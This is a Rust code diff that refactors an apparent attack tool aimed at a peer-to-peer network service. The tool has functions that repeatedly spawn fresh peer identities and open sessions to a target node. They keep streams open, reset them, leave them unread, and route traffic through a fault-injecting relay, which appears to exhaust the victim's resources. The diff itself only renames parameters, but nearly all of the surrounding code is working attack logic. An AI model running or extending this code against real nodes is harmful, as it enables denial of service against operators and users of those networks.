@@ -11,6 +11,7 @@ use tokio::task::JoinSet;
 use crate::error::AttackError;
 use crate::relay::{self, Fault, Relay};
 use crate::tally::Tally;
+use crate::target::Target;
 use crate::victim::Victim;
 
 /// Streams that one peer has open at most, so that this program's own memory is bounded.
@@ -33,12 +34,12 @@ pub(crate) fn runtime() -> std::io::Result<Runtime> {
 ///
 /// # Errors
 /// Nobody answers who holds the key of the target's EID. Whoever says that it wants no strangers has answered.
-pub(crate) fn meet(victim: &Victim) -> Result<(), AttackError> {
+pub(crate) fn meet(target: &Target) -> Result<(), AttackError> {
     let runtime = runtime()?;
     let met = runtime.block_on(async {
-        let host = host(victim, &Tally::default()).await?;
-        let connecting = host.connect(victim.target.eid, SERVICE, PROTOCOL);
-        let met = match connecting.hint(victim.target.address).timeout(SEARCH).await {
+        let host = host(target, &Tally::default()).await?;
+        let connecting = host.connect(target.eid, SERVICE, PROTOCOL);
+        let met = match connecting.hint(target.address).timeout(SEARCH).await {
             Ok(_) | Err(ConnectError::Negotiation(NegotiationError::Forbidden { .. })) => Ok(()),
             Err(error) => Err(AttackError::NotThere(error)),
         };
@@ -50,11 +51,9 @@ pub(crate) fn meet(victim: &Victim) -> Result<(), AttackError> {
     met
 }
 
-async fn host(victim: &Victim, tally: &Tally) -> Result<Host, AttackError> {
+async fn host(target: &Target, tally: &Tally) -> Result<Host, AttackError> {
     tally.peer();
-    let host = Host::builder()
-        .identity(Identity::generate())
-        .bind(victim.target.source(0, 1));
+    let host = Host::builder().identity(Identity::generate()).bind(target.source(0, 1));
     Ok(host.build().await?)
 }
 
@@ -79,7 +78,7 @@ async fn ask(session: &Stream, request: &[u8], tally: &Tally) -> Option<Stream> 
 pub(crate) async fn open(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
     let mut kept = Vec::new();
     loop {
-        let host = host(victim, tally).await?;
+        let host = host(&victim.target, tally).await?;
         let Some(session) = session(&host, victim).await else {
             continue;
         };
@@ -106,7 +105,7 @@ pub(crate) async fn open(victim: &Victim, tally: &Tally) -> Result<(), AttackErr
 pub(crate) async fn reset(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
     let request = victim.request()?;
     loop {
-        let host = host(victim, tally).await?;
+        let host = host(&victim.target, tally).await?;
         let Some(session) = session(&host, victim).await else {
             continue;
         };
@@ -129,7 +128,7 @@ pub(crate) async fn unread(victim: &Victim, tally: &Tally) -> Result<(), AttackE
     let request = victim.request()?;
     let mut kept = Vec::new();
     loop {
-        let host = host(victim, tally).await?;
+        let host = host(&victim.target, tally).await?;
         let Some(session) = session(&host, victim).await else {
             continue;
         };
@@ -171,7 +170,7 @@ async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<Opti
     let relay = Relay::new(fault, victim.target, tally).await?;
     let mut behind = victim.clone();
     behind.target.address = relay.address()?;
-    let host = host(victim, tally).await?;
+    let host = host(&victim.target, tally).await?;
     let fetching = async {
         let session = session(&host, &behind).await?;
         while let Some(mut stream) = ask(&session, &request, tally).await {
